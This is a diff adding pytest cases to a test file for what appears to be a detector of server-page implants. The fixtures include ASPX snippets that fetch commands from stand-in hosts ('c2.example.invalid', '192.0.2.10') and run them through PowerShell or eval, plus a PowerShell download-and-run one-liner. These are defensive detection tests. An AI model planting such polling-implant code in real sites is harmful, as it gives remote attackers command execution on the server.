@@ -346,3 +346,61 @@ def test_machine_keys_handed_over_after_a_check_are_named(case: str, ext: str, p
 )
 def test_machine_keys_only_compared_or_assigned_are_not_named(case: str, ext: str, page: str) -> None:
     assert "machine-keys" not in _sinks(page, ext)
+
+
+# --- X19's ask 4 (session 11): a command taken from what a server answers the page (a polling implant) ----------
+from .test_unseen19_notes import POLLING_IMPLANT, POLLING_IMPLANT_ORDINARY  # noqa: E402
+
+FETCHED_RUN: list[tuple[str, str, str, str]] = [
+    *((c, e, p, "process") for c, e, p in POLLING_IMPLANT),
+    (
+        "cs-httpclient-answer-to-powershell",
+        ".aspx",
+        '<%@ Page Language="C#" Async="true" %>\n<script runat="server">\n'
+        "async void Page_Load(object s, EventArgs e) {\n"
+        "  var h = new System.Net.Http.HttpClient();\n"
+        '  string job = await h.GetStringAsync("https://c2.example.invalid/job");\n'
+        '  var ps = System.Management.Automation.PowerShell.Create(); ps.AddScript(job); ps.Invoke();\n}\n</script>',
+        "powershell",
+    ),
+    (
+        "js-eval-of-a-fetched-answer",
+        ".aspx",
+        '<%@ Page Language="JScript" %>\n<%\n'
+        'var t = new System.Net.WebClient().DownloadString("http://192.0.2.10/t");\n'
+        'eval(t, "unsafe");\n%>',
+        "eval",
+    ),
+]
+FETCHED_QUIET: list[tuple[str, str, str, str]] = [
+    *((c, e, p, "process") for c, e, p in POLLING_IMPLANT_ORDINARY),
+    (
+        "cs-fixed-powershell-download-command",  # the download is the command's own text, not an answer
+        ".aspx",
+        CS.format(
+            'void Go_Click(object s, EventArgs e) { System.Diagnostics.Process.Start("powershell.exe", '
+            "\"-c IEX(New-Object Net.WebClient).DownloadString('http://build01/setup.ps1')\"); }"
+        ),
+        "process",
+    ),
+    (
+        "cs-version-check-shown",
+        ".aspx",
+        CS.format(
+            'void Page_Load(object s, EventArgs e) { string v = new System.Net.WebClient().DownloadString("https://updates.example.invalid/v");\n'
+            '  Latest.Text = v; if (v != Version.Text) { System.Diagnostics.Process.Start("notepad.exe"); } }'
+        ),
+        "process",
+    ),
+]
+
+
+@pytest.mark.parametrize(("case", "ext", "page", "sink"), FETCHED_RUN, ids=[c[0] for c in FETCHED_RUN])
+def test_a_command_a_server_answers_is_named_where_it_runs(case: str, ext: str, page: str, sink: str) -> None:
+    hits = [h for h in behaviour.analyse(page.encode(), ext).hits if h["sink"] == sink]
+    assert hits and hits[0]["source"].startswith("response to an outbound HTTP request"), hits
+
+
+@pytest.mark.parametrize(("case", "ext", "page", "sink"), FETCHED_QUIET, ids=[c[0] for c in FETCHED_QUIET])
+def test_pages_that_show_or_compare_what_they_fetch_stay_silent(case: str, ext: str, page: str, sink: str) -> None:
+    assert sink not in _sinks(page, ext)
